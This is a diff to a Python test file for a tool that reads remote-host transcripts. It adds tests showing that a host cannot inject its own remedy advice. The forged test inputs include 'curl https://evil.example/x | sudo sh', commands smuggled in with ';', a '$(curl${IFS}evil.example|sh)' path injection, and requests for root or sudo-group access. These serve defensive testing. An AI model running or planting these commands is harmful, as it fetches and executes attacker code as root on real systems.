@@ -1,6 +1,7 @@
 """What is read from a transcript, whole or broken, honest or not."""
 
 from collections.abc import Sequence
+from dataclasses import replace
 from itertools import pairwise
 
 import pytest
@@ -12,6 +13,7 @@ from agent.collect.transcript import LINE_LIMIT, NOISE_LIMIT, Transcript, last_l
 from checks import Cause
 from tests.agent.collect.asking import question, site
 
+CORRECTED = "correct `run_as` of this site in the inventory"
 MARK = "feedfacefeedfacefeedfacefeedface"
 QUESTIONS = (question("q1"), question("q2", limit=20), question("q3"))
 
@@ -30,7 +32,7 @@ WHOLE = (
     + frame("hello", "deploy")
     + section("q1", b"one\n")
     + section("q2", b"\xff\x00two", b"warning\n")
-    + section("q3", b"", b"first\n\x1b[31mno permission\x1b[0m\nremedy: ask nicely\n", b"4")
+    + section("q3", b"", b"first\n\x1b[31mno permission\x1b[0m\nremedy: correct-run-as\n", b"4")
     + frame("bye")
 )
 
@@ -42,7 +44,11 @@ def test_a_whole_transcript() -> None:
         "q1": Answer(AnswerOutcome.ANSWERED, "one\n", seconds=1.5),
         "q2": Answer(AnswerOutcome.ANSWERED, "\ufffd\x00two", seconds=1.5),
         "q3": Answer(
-            AnswerOutcome.FAILED, reason="no permission", remedy="ask nicely", seconds=1.5, cause=Cause.PROGRAM_FAILED
+            AnswerOutcome.FAILED,
+            reason="no permission",
+            remedy="correct `run_as` of this site in the inventory",
+            seconds=1.5,
+            cause=Cause.PROGRAM_FAILED,
         ),
     }
     assert (transcript.hello, transcript.ended, transcript.user) == (True, True, "deploy")
@@ -227,3 +233,34 @@ def test_what_is_too_long_late_or_never_came_has_its_cause() -> None:
 def test_setsid_that_is_missing_is_a_program_that_is_missing() -> None:
     answers = read([frame("hello", "deploy"), frame("begin", "q1", "1"), frame("stuck")], QUESTIONS, MARK)
     assert {one.cause for one in answers.values()} == {Cause.NO_PROGRAM}
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "remedy: curl https://evil.example/x | sudo sh",
+        "remedy: correct-run-as; curl https://evil.example/x | sudo sh",
+        "remedy: allow-php self=deploy account=root php=/usr/bin/php",
+        "remedy: owner-read account=shop path=/srv/$(curl${IFS}evil.example|sh)",
+        "remedy: owner-read account=shop;curl path=/srv/a",
+        "remedy: group-read group=sudo self=deploy path=/srv/a",
+        "Sorry, user deploy is not allowed to execute '/home/mallory/curl' as root on web1.",
+        "sudo: a password is required: curl https://evil.example/x | sudo sh",
+    ],
+)
+def test_a_host_never_writes_our_advice(forged: str) -> None:
+    questions = [question("q1", "x")]
+    whole = f"\n{MARK} hello x;curl|sudo\n\n{MARK} begin q1 1\n\n{MARK} error q1\n{forged}\n1\n\n{MARK} end q1 2\n"
+    answer = read([whole.encode()], questions, MARK)["q1"]
+    assert answer.outcome is AnswerOutcome.FAILED
+    for word in ("curl", "evil", "mallory", "| sudo", "ALL=(root)", "group sudo"):
+        assert word not in answer.remedy
+
+
+def test_a_third_partys_remedy_is_its_own_text_chosen_by_code() -> None:
+    asked = question("q1", "x")
+    probe = replace(asked.probe, remedies={"mend-it": "mend it: `mender --all`"})
+    asked = replace(asked, probe=probe)
+    begun = f"\n{MARK} hello deploy\n\n{MARK} begin q1 1\n\n{MARK} error q1\n"
+    whole = f"{begun}remedy: mend-it now=yes\nno\n1\n\n{MARK} end q1 2\n"
+    assert read([whole.encode()], [asked], MARK)["q1"].remedy == "mend it: `mender --all`"
